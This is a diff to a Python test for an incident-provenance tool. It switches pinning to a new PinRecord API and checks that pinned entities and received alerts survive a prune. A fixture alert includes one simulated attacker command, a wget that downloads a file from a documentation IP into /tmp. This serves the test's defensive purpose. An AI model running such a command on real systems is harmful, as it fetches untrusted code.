@@ -18,8 +18,7 @@ from provenance.demo.incident import alert
 from provenance.ingest.clock import LAST
 from provenance.ingest.facts import Flow, FlowKind
 from provenance.ingest.identity import EntityKind, format_id
-from provenance.retention import prune as retention
-from provenance.service.graphql.base import marks
+from provenance.retention.pins import PinRecord, pin
 from provenance.store import open_store
 from provenance.store.interface import Direction, Selector
 from provenance.trace.budget import DEFAULT
@@ -97,16 +96,15 @@ def test_a_pinned_entity_keeps_what_leads_to_it(case: Path, answer: Callable[...
 
 
 def test_what_is_pinned_or_was_received_in_the_service_stays(case: Path, answer: Callable[..., Any]) -> None:
-    assert retention.PIN == marks.PIN
     (start,) = answer("backtrack", *SHELL)["query"]["start"]
     before = answer("backtrack", "--id", start)
     received = Alert(
         "received", "ndr", "3", "", {"process": {"command": "wget -q http://203.0.113.61/3333 -O /tmp/3333"}}
     )
     with closing(open_store(str(case))) as store:
-        marks.pin(store.documents(), start, "the shell", "somebody", 0)
-        marks.pin(store.documents(), "pffffffffffffffff", "not here", "somebody", 0)
-        marks.pin(store.documents(), f"SPAWNED-{start}-{start}", "a flow", "somebody", 0)
+        pin(store.documents(), start, PinRecord("the shell", "somebody", 0))
+        pin(store.documents(), "pffffffffffffffff", PinRecord("not here", "somebody", 0))
+        pin(store.documents(), f"SPAWNED-{start}-{start}", PinRecord("a flow", "somebody", 0))
         submit(store.documents(), [received], 0)
     done = answer("prune", "--before", AFTER)
     assert (done["kept_slices"], done["unexplained_alerts"]) == (2, [])
